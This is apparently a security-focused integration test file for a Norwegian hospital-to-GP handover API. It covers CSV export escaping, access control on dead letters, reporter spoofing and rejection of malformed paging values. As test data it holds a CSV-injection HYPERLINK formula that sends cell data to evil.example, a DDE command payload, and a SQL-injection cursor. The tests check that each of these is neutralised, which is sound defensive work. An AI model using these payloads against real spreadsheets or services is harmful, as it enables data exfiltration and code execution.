import Client from 'fhir-kit-client';
import { QueueName, Resource } from '@app/fhir';
import { Database } from '../../apps/api/src/database/sql-client';
import { ProducerQueues, Queue } from '../../apps/api/src/queues/bullmq.adapter';
import { asTransaction, dischargeHandoverEntries } from '../../tools/simulator/discharge-handover';
import { daysFromNow } from '../support/clock';
import { syntheticFodselsnummer } from '../support/fixtures';
import { TestApi, startTestApi } from '../support/test-api';
import { testDirectory } from '../support/test-directory';
import { callAs, gpRole, handover, newPatient, postHandover } from '../support/transfers';

jest.setTimeout(60_000);

interface ApiError {
  statusCode: number;
  message: string;
  field?: string;
}

/** Reports and exports as an attacker would try them: formulas in CSV, open operator lists, spoofed reporters, endless and broken paging. */
describe('reports and exports', () => {
  let api: TestApi;
  let ehr: Client;
  let database: Database;

  beforeAll(async () => {
    api = await startTestApi();
    ehr = await api.fhirClient('ehr');
    database = api.app.get(Database);
  });
  afterAll(() => api?.close());

  const auditRows = async () => Number((await database.query<{ n: string }>('SELECT count(*) AS n FROM audit_event')).rows[0].n);

  /** Everything the CSV holds, one array of cells per line (quotes undone). */
  function csvCells(text: string, separator: string): string[][] {
    const lines: string[][] = [];
    let cells: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i];
      if (quoted && c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = !quoted;
      } else if ((c === separator || c === '\n') && !quoted) {
        cells.push(cell);
        cell = '';
        if (c === '\n') {
          lines.push(cells);
          cells = [];
        }
      } else {
        cell += c;
      }
    }
    if (cell || cells.length) lines.push([...cells, cell]);
    return lines;
  }
  const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell);

  describe('CSV exports never hand a spreadsheet a formula', () => {
    const evilUnitName = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")';
    const evilOfficeName = '+SUM(1+1)*cmd|\' /C calc\'!A0';
    let unit: string;
    let office: string;

    beforeAll(async () => {
      const create = async (body: Resource) => `Organization/${((await ehr.create({ resourceType: 'Organization', body } as never)) as Resource).id}`;
      unit = await create({
        resourceType: 'Organization',
        name: evilUnitName,
        type: [{ coding: [{ system: 'urn:bro:organization-type', code: 'hospital-unit' }] }],
        partOf: { reference: testDirectory().demoOrganizations.haukeland },
      });
      office = await create({ resourceType: 'Organization', name: evilOfficeName, type: [{ coding: [{ system: 'urn:bro:organization-type', code: 'gp-office' }] }] });
      // Five patients from the unit to the office, handed over an hour ago.
      for (let i = 0; i < 5; i++) {
        const content = dischargeHandoverEntries({
          patient: newPatient(),
          requester: unit,
          admittedAt: daysFromNow(-3),
          dischargedAt: daysFromNow(-1 / 24),
          tasks: [{ category: 'PROVESVAR', owner: office }],
        });
        await ehr.transaction({ body: asTransaction(content) } as never);
      }
    });

    it('prefixes the unit and office names in the quality CSV with a quote, and leaves the numbers numbers', async () => {
      // One table per file, in both formats: Excel's (semicolons) and Power BI's (commas).
      const table = async (name: string, format: 'excel' | 'standard') => {
        const query = new URLSearchParams({ office, table: name, format });
        const answer = await fetch(`${api.origin}/api/quality/report.csv?${query.toString()}`, { headers: { Authorization: `Bearer ${await api.token('quality')}` } });
        expect(answer.status).toBe(200);
        return csvCells((await answer.text()).replace(/^\uFEFF/, '').replace(/\r\n/g, '\n'), format === 'excel' ? ';' : ',');
      };
      const lines = [...(await table('byUnit', 'standard')), ...(await table('byOffice', 'standard')), ...(await table('byUnit', 'excel')), ...(await table('byOffice', 'excel'))];
      expect(lines.find((line) => line[0] === unit)?.slice(0, 5)).toEqual([unit, `'${evilUnitName}`, '5', '0', '']);
      expect(lines.find((line) => line[0] === office)?.slice(0, 5)).toEqual([office, `'${evilOfficeName}`, '5', '0', '']);
      expect(lines.flat().filter(formulaLike)).toEqual([]);
    });

    it("prefixes a hostile name in a patient's access-log CSV the same way", async () => {
      const { tasks } = await postHandover(ehr, handover({ patient: newPatient(gpRole('gp2')) }));
      const patientId = String((tasks[0].for as { reference: string }).reference).split('/')[1];
      // A name as an identity provider could send it, recorded as any access is.
      await database.query(
        `INSERT INTO audit_event (id, recorded, action, subtype, outcome, agent_subject, agent_name, agent_role, agent_organization, purpose_of_use, entity_type, entity_id, patient)
         VALUES (gen_random_uuid(), now(), 'R', 'read', '0', 'someone', '@SUM(1+1)', 'gp', '-2+3', 'TREAT', 'Task', $1, $2)`,
        [tasks[0].id, `Patient/${patientId}`],
      );
      const answer = await fetch(`${api.origin}/api/audit/patients/${patientId}/access-log?format=csv`, { headers: { Authorization: `Bearer ${await api.token('privacy')}` } });
      expect(answer.status).toBe(200);
      const lines = csvCells(await answer.text(), ';');
      expect(lines).toContainEqual([expect.any(String), "'@SUM(1+1)", 'gp', "'-2+3", 'read Task', 'behandling']);
      expect(lines.flat().filter(formulaLike)).toEqual([]);
    });
  });

  describe('dead letters are for administrators only, and show ids, never bodies', () => {
    let producer: ProducerQueues;
    let deadLetters: Queue<Record<string, unknown>>;
    let restHooks: Queue<unknown>;
    const eventId = `reports-and-exports-${Date.now()}`;
    const fodselsnummer = syntheticFodselsnummer();

    beforeAll(async () => {
      producer = new ProducerQueues(api.config);
      deadLetters = producer.open(QueueName.DeadLetter);
      restHooks = producer.open(QueueName.RestHookDelivery);
      // A dead letter that carries more than it should: a patient's resource, and a person number in the error.
      await deadLetters.add(
        'rest-hook',
        {
          subscriptionId: 'sub-1',
          channel: 'rest-hook',
          resourceType: 'Task',
          resourceId: 'task-1',
          versionId: 3,
          eventId,
          reason: `the receiver answered 500: no patient ${fodselsnummer}`,
          failedAt: new Date().toISOString(),
          resource: { resourceType: 'Patient', identifier: [{ value: fodselsnummer }], name: [{ family: 'Nordmann' }] },
        },
        { jobId: `dead-${eventId}` },
      );
    });
    afterAll(async () => {
      await deadLetters.remove(`dead-${eventId}`);
      await producer.close();
    });

    it.each(['ehr', 'reporting', 'kommune', 'gp', 'coordinator', 'quality', 'privacy', 'lowthreshold'])('refuses %s (403), listing and replaying alike, and replays nothing', async (user) => {
      const queued = await restHooks.getJobCounts('waiting', 'delayed', 'active', 'completed', 'failed');
      expect((await callAs(api, user, 'GET', '/api/ops/dead-letters')).status).toBe(403);
      expect((await callAs(api, user, 'POST', `/api/ops/dead-letters/dead-${eventId}/replay`)).status).toBe(403);
      expect(await deadLetters.getJob(`dead-${eventId}`)).toBeDefined();
      expect(await restHooks.getJobCounts('waiting', 'delayed', 'active', 'completed', 'failed')).toEqual(queued);
    });

    it('lists for an administrator only which delivery failed and why, with person numbers masked', async () => {
      const answer = await callAs<{ deadLetters: Array<Record<string, unknown>> }>(api, 'admin', 'GET', '/api/ops/dead-letters');
      expect(answer.status).toBe(200);
      const letter = answer.body.deadLetters.find((d) => d.eventId === eventId);
      expect(letter).toEqual({
        id: `dead-${eventId}`,
        subscriptionId: 'sub-1',
        channel: 'rest-hook',
        resourceType: 'Task',
        resourceId: 'task-1',
        versionId: 3,
        eventId,
        failedAt: expect.any(String),
        reason: 'the receiver answered 500: no patient ***********',
      });
      expect(JSON.stringify(answer.body)).not.toContain(fodselsnummer);
      expect(JSON.stringify(answer.body)).not.toContain('Nordmann');
    });
  });

  describe('a collaboration deviation names its reporter from the sign-in, never from the body', () => {
    let handoverId: string;
    let taskId: string;
    const deviation = {
      whatHappened: 'Pasienten ble utskrevet uten epikrise.',
      agreementPoint: 'Delavtale 3, punkt 6.2',
      immediateMeasures: 'Ringte avdelingen.',
      reporterPhone: '55 00 00 00',
    };
    const filed = async () => Number((await database.query<{ n: string }>('SELECT count(*) AS n FROM collaboration_deviation WHERE handover_id = $1', [handoverId])).rows[0].n);

    beforeAll(async () => {
      const { tasks } = await postHandover(ehr, handover({ patient: newPatient(gpRole('gp2')) }));
      handoverId = (tasks[0].groupIdentifier as { value: string }).value;
      taskId = tasks[0].id!;
    });

    it.each([
      ['reporterName', { reporterName: 'Dr. Falsk' }],
      ['hospitalUnit', { hospitalUnit: 'Organization/another-unit' }],
      ['reporterHpr', { reporterHpr: '9144901' }],
      ['reporterOrganization', { reporterOrganization: '999999999' }],
      ['reporter', { reporter: { name: 'Dr. Falsk', hpr: '9144901' } }],
    ])('refuses a body that sets %s (400), and files nothing', async (field, extra) => {
      const answer = await callAs<ApiError>(api, 'gp2', 'POST', `/api/handovers/${handoverId}/deviations`, { ...deviation, ...extra });
      expect(answer.status).toBe(400);
      expect(answer.body.field).toBe(field);
      expect(await filed()).toBe(0);
    });

    it('files with the name and HPR number of the signed-in GP and the hand-over\'s unit', async () => {
      const answer = await callAs<{ hospitalUnit: string; reporter: Record<string, string> }>(api, 'gp2', 'POST', `/api/handovers/${handoverId}/deviations`, { ...deviation, taskId });
      expect(answer.status).toBe(201);
      expect(answer.body.hospitalUnit).toBe(testDirectory().demoOrganizations.haukelandMedisinsk);
      expect(answer.body.reporter).toEqual({ name: 'Ola Allmennlege', phone: '55 00 00 00', hpr: '9144902', organization: expect.any(String) });
      expect(await filed()).toBe(1);
    });
  });

  describe('the emergency-access report and the access log page by cursor', () => {
    const reason = 'Akutt innlagt på legevakten, fastlegen er ikke tilgjengelig';
    let since: string;
    let patientId: string;

    beforeAll(async () => {
      // A patient of gp's, opened by gp2 in an emergency: one search (three tasks, one request) and two reads.
      // From this instant exactly (the accesses are recorded after it, on the same clock): another file's
      // emergency accesses a moment ago are not this test's.
      since = new Date().toISOString();
      const { tasks } = await postHandover(ehr, handover({ patient: newPatient(gpRole('gp')), categories: ['PROVESVAR', 'KONTROLL', 'SYKMELD'] }));
      patientId = String((tasks[0].for as { reference: string }).reference).split('/')[1];
      const emergency = { 'X-Bro-Emergency-Access': reason };
      expect((await callAs(api, 'gp2', 'GET', `/fhir/R4/Task?patient=Patient/${patientId}`, undefined, emergency)).status).toBe(200);
      for (const task of tasks.slice(0, 2)) expect((await callAs(api, 'gp2', 'GET', `/fhir/R4/Task/${task.id}`, undefined, emergency)).status).toBe(200);
    });

    type Accesses = { total: number; accesses: Array<{ at: string; patient: string; what: string }>; next?: string };

    it('gives every access once, newest first, page after page, also where one request opened several', async () => {
      const first = await callAs<Accesses>(api, 'privacy', 'GET', `/api/audit/emergency-access?from=${encodeURIComponent(since)}&count=2`);
      expect(first.status).toBe(200);
      expect(first.body.total).toBe(5);
      const pages = [first.body];
      while (pages[pages.length - 1].next) {
        const next = await callAs<Accesses>(api, 'privacy', 'GET', pages[pages.length - 1].next!);
        expect(next.status).toBe(200);
        pages.push(next.body);
      }
      expect(pages.map((page) => page.accesses.length)).toEqual([2, 2, 1]);
      const all = pages.flatMap((page) => page.accesses);
      expect(all.every((access) => access.patient === `Patient/${patientId}`)).toBe(true);
      expect(new Set(all.map((access) => `${access.at} ${access.what}`)).size).toBe(5);
      expect(all.map((access) => access.at)).toEqual([...all.map((access) => access.at)].sort().reverse());
    });

    it('pages the access log as JSON, and exports the whole of it as CSV', async () => {
      type Log = { total: number; entries: unknown[]; next?: string };
      const first = await callAs<Log>(api, 'privacy', 'GET', `/api/audit/patients/${patientId}/access-log?count=3`);
      expect(first.status).toBe(200);
      const pages = [first.body];
      while (pages[pages.length - 1].next) pages.push((await callAs<Log>(api, 'privacy', 'GET', pages[pages.length - 1].next!)).body);
      expect(pages.flatMap((page) => page.entries)).toHaveLength(first.body.total);
      expect(pages.length).toBe(Math.ceil(first.body.total / 3));
      // Each page was an export of its own, and so is the CSV (recorded before it is read).
      const csv = await fetch(`${api.origin}/api/audit/patients/${patientId}/access-log?format=csv`, { headers: { Authorization: `Bearer ${await api.token('privacy')}` } });
      const lines = (await csv.text()).trim().split('\n');
      expect(lines).toHaveLength(1 + first.body.total + pages.length + 1);
    });

    it.each([
      ['a garbled cursor', 'cursor=not-a-cursor!'],
      ['a cursor of the wrong shape', `cursor=${Buffer.from('x|y').toString('base64url')}`],
      ['a cursor with month 13', `cursor=${Buffer.from('2025-13-01T00:00:00.000000Z|6f1c1f9e-2a7b-4c8e-9d3a-1b2c3d4e5f60').toString('base64url')}`],
      ['a cursor in year 0000', `cursor=${Buffer.from('0000-01-01T00:00:00.000000Z|6f1c1f9e-2a7b-4c8e-9d3a-1b2c3d4e5f60').toString('base64url')}`],
      ['a cursor with SQL in it', `cursor=${Buffer.from("2025-01-01T00:00:00.000000Z|x' OR '1'='1").toString('base64url')}`],
      ['a huge cursor', `cursor=${'A'.repeat(5000)}`],
      ['two cursors', 'cursor=a&cursor=b'],
      ['count=0', 'count=0'],
      ['count=501', 'count=501'],
      ['count=1e20', 'count=1e20'],
      ['count=-1', 'count=-1'],
      ['count=2.5', 'count=2.5'],
      ['count=NaN', 'count=NaN'],
      ['an unknown parameter', 'limit=5'],
      ['an impossible date', 'from=2025-02-30'],
      ['a date past year 9999', 'to=99999-01-01'],
    ])('answers 400 for %s, on both reports, and records nothing', async (_, query) => {
      const before = await auditRows();
      for (const path of ['/api/audit/emergency-access', `/api/audit/patients/${patientId}/access-log`]) {
        const answer = await callAs<ApiError>(api, 'privacy', 'GET', `${path}?${query}`);
        expect({ path, status: answer.status }).toEqual({ path, status: 400 });
      }
      expect(await auditRows()).toBe(before);
    });

    it('is for the privacy officer only', async () => {
      for (const user of ['gp', 'coordinator', 'quality', 'admin', 'ehr']) {
        expect((await callAs(api, user, 'GET', '/api/audit/emergency-access?count=1')).status).toBe(403);
        expect((await callAs(api, user, 'GET', `/api/audit/patients/${patientId}/access-log`)).status).toBe(403);
      }
    });
  });

  describe('paging values that are not a page answer 400 on every /api list', () => {
    const lists: Array<[string, string]> = [
      ['gp', '/api/inbox/tasks'],
      ['gp', '/api/inbox/counts'],
      ['coordinator', '/api/handovers'],
      ['coordinator', '/api/handovers/tasks'],
      ['gp', '/api/notifications'],
    ];
    const values = ['1e20', '-1', '0', '2.5', 'NaN', 'Infinity', '0x10', '%201', '99999999999999999999999', '1%00', '1&{name}=2'];
    const asked = (name: string, value: string) => `${name}=${value.replace('{name}', name)}`;

    it.each(values)('page=%s', async (value) => {
      const before = await auditRows();
      for (const [user, path] of lists) {
        const answer = await callAs<ApiError>(api, user, 'GET', `${path}?${asked('page', value)}`);
        expect({ path, status: answer.status }).toEqual({ path, status: 400 });
        expect(answer.body.message).toMatch(/page|NUL/);
      }
      expect(await auditRows()).toBe(before);
    });

    it.each(values)('pageSize=%s', async (value) => {
      for (const [user, path] of lists) {
        const answer = await callAs<ApiError>(api, user, 'GET', `${path}?${asked('pageSize', value)}`);
        expect({ path, status: answer.status }).toEqual({ path, status: 400 });
      }
    });

    it('names the allowed range, and still serves a page in range', async () => {
      const answer = await callAs<ApiError>(api, 'coordinator', 'GET', '/api/handovers?page=1e20');
      expect(answer.body).toEqual({ statusCode: 400, error: 'invalid', message: 'page must be a whole number from 1 to 10000', field: 'page' });
      expect((await callAs(api, 'coordinator', 'GET', '/api/handovers?page=10000&pageSize=1')).status).toBe(200);
      expect((await callAs(api, 'gp', 'GET', '/api/notifications?page=2&pageSize=100')).status).toBe(200);
      expect((await callAs(api, 'gp', 'GET', '/api/notifications?isAdmin=true')).status).toBe(400);
    });

    it('refuses broken quality-report filters the same way', async () => {
      for (const query of ['from=0000-01-01&to=0000-01-03', 'from=1e20', 'to=-1', 'to=1e20', 'from=2025-01-01&from=2025-02-01', 'office=Organization/x%00', 'category=%00', 'page=1']) {
        expect((await callAs(api, 'quality', 'GET', `/api/quality/report?${query}`)).status).toBe(400);
        expect((await callAs(api, 'quality', 'GET', `/api/quality/report.csv?${query}`)).status).toBe(400);
      }
    });
  });
});
